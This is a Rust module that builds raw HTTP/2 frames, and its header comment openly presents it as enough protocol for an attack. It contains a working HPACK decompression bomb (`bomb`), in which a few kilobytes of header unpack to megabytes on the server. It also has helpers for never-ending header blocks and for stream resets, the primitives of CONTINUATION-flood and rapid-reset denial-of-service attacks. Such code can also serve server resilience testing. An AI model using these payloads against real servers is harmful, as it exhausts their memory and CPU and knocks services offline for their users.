//! HTTP/2 frames as bytes, well-formed and not: an attack needs no more of the protocol than this
//! (RFC 9113, RFC 7541).

/// What every client says first (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Identifier of SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
/// Error code CANCEL.
const CANCEL: u32 = 8;

/// Preface and settings with this window for every stream.
pub fn opening(stream_window_bytes: u32) -> Vec<u8> {
    let setting = [
        &INITIAL_WINDOW_SIZE[..],
        &stream_window_bytes.to_be_bytes()[..],
    ]
    .concat();
    [PREFACE, &frame(SETTINGS, 0, 0, &setting)].concat()
}

/// A whole GET of `path` on stream `id`.
pub fn get(id: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, id, &request(path))
}

/// The beginning of a GET; its head goes on in other frames.
pub fn unfinished_get(id: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM, id, &request(path))
}

/// More of a head, which still does not end.
pub fn continuation(id: u32, block: &[u8]) -> Vec<u8> {
    frame(CONTINUATION, 0, id, block)
}

/// The end of stream `id` from the client's side.
pub fn reset(id: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes())
}

/// A GET with a head of a few kilobytes that unpacks to megabytes: one large field is put into the
/// table and then named `times` times.
pub fn bomb(id: u32, path: &str, times: usize) -> Vec<u8> {
    let mut block = request(path);
    // Literal with indexing, new name (RFC 7541, section 6.2.1); the table's 4096 bytes have room
    // for this one.
    block.push(0x40);
    literal(&mut block, b"x-bomb");
    literal(&mut block, &[b'x'; 3_900]);
    // The newest entry of the dynamic table has index 62.
    block.extend(std::iter::repeat_n(0x80 | 62, times));
    frame(HEADERS, END_STREAM | END_HEADERS, id, &block)
}

/// A field that no server knows, not for the table.
pub fn field(name: &str, value: &[u8]) -> Vec<u8> {
    let mut block = vec![0x00];
    literal(&mut block, name.as_bytes());
    literal(&mut block, value);
    block
}

/// Method GET, scheme https, `path`, authority `test`.
fn request(path: &str) -> Vec<u8> {
    // Indexed fields 2 and 7 of the static table; names 4 and 1 with values that are not for the
    // table.
    let mut block = vec![0x82, 0x87, 0x04];
    literal(&mut block, path.as_bytes());
    block.push(0x01);
    literal(&mut block, b"test");
    block
}

/// A string without Huffman coding (RFC 7541, section 5.2).
fn literal(block: &mut Vec<u8>, text: &[u8]) {
    let mut rest = text.len();
    if rest < 127 {
        block.push(rest as u8);
    } else {
        block.push(127);
        rest -= 127;
        while rest >= 128 {
            block.push(128 | (rest % 128) as u8);
            rest /= 128;
        }
        block.push(rest as u8);
    }
    block.extend(text);
}

fn frame(kind: u8, flags: u8, id: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &id.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_nine_bytes_of_header() {
        assert_eq!(reset(5), [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        assert_eq!(opening(0).len(), PREFACE.len() + 9 + 6);
    }

    #[test]
    fn long_strings_have_long_lengths() {
        let mut block = Vec::new();
        literal(&mut block, &[b'x'; 126]);
        assert_eq!(block[0], 126);
        let mut block = Vec::new();
        // The example of RFC 7541, appendix C.1.2, with a prefix of seven bits.
        literal(&mut block, &[b'x'; 1_337]);
        assert_eq!(block[..3], [127, 0b1011_1010, 0b0000_1001]);
        assert_eq!(block.len(), 3 + 1_337);
    }
}
